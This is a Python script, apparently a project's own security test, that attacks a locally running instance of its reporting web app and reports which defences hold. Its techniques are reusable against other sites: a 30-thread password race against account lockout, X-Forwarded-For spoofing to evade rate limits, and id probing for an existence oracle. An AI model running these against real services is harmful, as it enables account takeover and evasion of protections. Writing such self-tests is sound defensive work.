"""What an attacker with a script gets past the log-in, the API tokens and the existence checks.

Against a running instance on loopback only, bounded (about 250 requests, 120 s), printing what got
through. It locks the victim account for 30 minutes (that is the point): use a demo account.

    python bench/attack_auth.py --base http://127.0.0.1:8000 --victim fagai --user nongye \
        --leader lingdao --password Demo@2025

Tries:
  1. lockout race: 30 simultaneous log-in POSTs from 30 loopback addresses, 29 wrong, the right one
     last (sent 0.3 s after the others); then the same on /api/auth/token/ for a second victim;
  2. throttle: 25 token POSTs from one address, each with a new X-Forwarded-For;
  3. token life: a token used after the browser session of the same account logged out;
  4. the API schema and docs without logging in;
  5. a leader writing a comment on a report (API);
  6. existence oracle: another unit's supervision items and reports by id, as a detail and as a
     filter, compared with ids that do not exist.
"""

import argparse
import http.client
import ipaddress
import json
import re
import sys
import threading
import time
from http.cookies import SimpleCookie
from urllib.parse import urlencode, urlparse

DEADLINE = time.monotonic() + 120
SENT = {"n": 0}
MAX_REQUESTS = 300


class Client:
    def __init__(self, base, source="127.0.0.1"):
        url = urlparse(base)
        self.host, self.port, self.source = url.hostname, url.port or 80, source
        self.cookies = {}

    def request(self, method, path, body=None, headers=None):
        if time.monotonic() > DEADLINE or SENT["n"] >= MAX_REQUESTS:
            raise SystemExit("stopped: the time or request budget is spent")
        SENT["n"] += 1
        conn = http.client.HTTPConnection(self.host, self.port, source_address=(self.source, 0), timeout=60)
        headers = dict(headers or {})
        if self.cookies:
            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        conn.request(method, path, body=body, headers=headers)
        response = conn.getresponse()
        text = response.read().decode("utf-8", "replace")
        for header in response.msg.get_all("Set-Cookie") or []:
            for key, morsel in SimpleCookie(header).items():
                self.cookies[key] = morsel.value
        conn.close()
        return response.status, text, response

    def form_login(self, username, password):
        self.request("GET", "/accounts/login/")
        csrf = self.cookies.get("csrftoken", "")
        body = urlencode({"username": username, "password": password, "csrfmiddlewaretoken": csrf})
        status, _, response = self.request(
            "POST",
            "/accounts/login/",
            body,
            {"Content-Type": "application/x-www-form-urlencoded", "Referer": f"http://{self.host}:{self.port}/"},
        )
        return status, status == 302 and "sessionid" in self.cookies

    def token(self, username, password, headers=None):
        status, text, _ = self.request(
            "POST",
            "/api/auth/token/",
            json.dumps({"username": username, "password": password}),
            {"Content-Type": "application/json", **(headers or {})},
        )
        return status, (json.loads(text).get("token") if status == 200 else None)

    def api(self, method, path, token=None, data=None):
        headers = {"Content-Type": "application/json", "Accept-Language": "en"}
        if token:
            headers["Authorization"] = f"Token {token}"
        return self.request(method, path, json.dumps(data) if data is not None else None, headers)


def race(base, attempt, victim, password):
    barrier = threading.Barrier(30)
    results = [None] * 30

    def one(i):
        client = Client(base, f"127.0.0.{20 + i}")
        right = i == 29
        if attempt == "form":
            client.request("GET", "/accounts/login/")
        barrier.wait()
        if right:
            time.sleep(0.3)
        guess = password if right else f"Wrong-guess-{i}"
        try:
            if attempt == "form":
                csrf = client.cookies.get("csrftoken", "")
                body = urlencode({"username": victim, "password": guess, "csrfmiddlewaretoken": csrf})
                status, _, _ = client.request(
                    "POST", "/accounts/login/", body, {"Content-Type": "application/x-www-form-urlencoded"}
                )
                results[i] = (status, status == 302 and "sessionid" in client.cookies)
            else:
                status, token = client.token(victim, guess)
                results[i] = (status, token is not None)
        except OSError as exc:
            results[i] = (repr(exc), False)

    threads = [threading.Thread(target=one, args=(i,)) for i in range(30)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=90)
    statuses = {}
    for status, _ in filter(None, results):
        statuses[status] = statuses.get(status, 0) + 1
    return results[29] and results[29][1], statuses


def report(name, got_through, detail):
    print(f"{'GOT THROUGH' if got_through else 'held':12} {name}: {detail}")
    return got_through


def run(args):
    found = []
    right_in, statuses = race(args.base, "form", args.victim, args.password)
    found.append(
        report(
            "lockout race, log-in page",
            right_in,
            f"right password logged in inside the burst: {bool(right_in)}; statuses {statuses}",
        )
    )
    right_in, statuses = race(args.base, "token", args.token_victim, args.password)
    found.append(
        report(
            "lockout race, token endpoint",
            right_in,
            f"right password got a token inside the burst: {bool(right_in)}; statuses {statuses}",
        )
    )

    spoof = Client(args.base, "127.0.0.90")
    codes = [
        spoof.token(f"nobody{n}", "Wrong-guess-1", {"X-Forwarded-For": f"198.51.100.{n + 1}"})[0] for n in range(25)
    ]
    found.append(
        report(
            "throttle with a new X-Forwarded-For per request", 429 not in codes, f"{codes.count(429)} of 25 throttled"
        )
    )

    browser, script = Client(args.base, "127.0.0.91"), Client(args.base, "127.0.0.92")
    _, token = script.token(args.user, args.password)
    browser.form_login(args.user, args.password)
    browser.request(
        "POST",
        "/accounts/logout/",
        urlencode({"csrfmiddlewaretoken": browser.cookies.get("csrftoken", "")}),
        {"Content-Type": "application/x-www-form-urlencoded"},
    )
    status = script.api("GET", "/api/plans/", token)[0] if token else None
    found.append(report("token after the account logged out", status == 200, f"GET /api/plans/ with it: {status}"))

    anonymous = Client(args.base, "127.0.0.93")
    schema, docs = anonymous.request("GET", "/api/schema/")[0], anonymous.request("GET", "/api/docs/")[0]
    found.append(
        report(
            "schema and docs without log-in",
            schema == 200 or docs == 200,
            f"/api/schema/ {schema}, /api/docs/ {docs} (open is the dev default; production closes them)",
        )
    )

    leader = Client(args.base, "127.0.0.94")
    _, leader_token = leader.token(args.leader, args.password)
    reports = leader.api("GET", "/api/progress-reports/?page_size=1", leader_token)[1]
    first = (json.loads(reports).get("results") or [{}])[0].get("id")
    status = (
        leader.api("POST", "/api/report-comments/", leader_token, {"report": first, "text": "抓紧推进"})[0]
        if first
        else None
    )
    found.append(report("leader writes a comment", status == 201, f"POST /api/report-comments/ → {status}"))

    found.append(oracle(args))
    print(f"\n{SENT['n']} requests; {sum(map(bool, found))} of {len(found)} checks got through")
    return 1 if any(found) else 0


def oracle(args):
    """As a reporter: ids of other units' objects must answer exactly as ids that do not exist."""
    client = Client(args.base, "127.0.0.95")
    _, token = client.token(args.oracle_user, args.password)
    differing = []
    for path in (
        "/api/supervision-items/{}/",
        "/api/progress-reports/{}/",
        "/api/report-comments/?report={}",
        "/api/evidence/?report={}",
        "/api/progress-reports/?indicator={}",
    ):
        answers = {}
        for pk in range(1, 16):
            status, text, _ = client.api("GET", path.format(pk), token)
            answers[pk] = (status, re.sub(r"\b%d\b" % pk, "<id>", text))
        missing = client.api("GET", path.format(999999), token)
        missing = (missing[0], re.sub(r"\b999999\b", "<id>", missing[1]))
        kinds = {answer for answer in answers.values() if answer[0] != 200}
        if any(answer != missing for answer in kinds):
            differing.append(f"{path} answers {sorted({a[0] for a in kinds})} vs missing {missing[0]}")
    return report(
        "existence oracle (other units' ids vs missing ids)",
        bool(differing),
        "; ".join(differing) or "every refused id answers as a missing one",
    )


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--base", default="http://127.0.0.1:8000")
    parser.add_argument("--victim", default="fagai", help="account locked by the log-in page race")
    parser.add_argument("--token-victim", default="damen", help="account locked by the token endpoint race")
    parser.add_argument("--user", default="duchashi", help="account whose token outlives a log-out, or not")
    parser.add_argument("--leader", default="lingdao")
    parser.add_argument("--oracle-user", default="xunyi_nongye", help="a reporter of another unit")
    parser.add_argument("--password", default="Demo@2025")
    args = parser.parse_args()
    host = urlparse(args.base).hostname or ""
    try:
        loopback = ipaddress.ip_address(host).is_loopback
    except ValueError:
        loopback = host == "localhost"
    if not loopback:
        sys.exit("refused: this script runs against loopback only (127.0.0.0/8, ::1, localhost)")
    sys.exit(run(args))


if __name__ == "__main__":
    main()
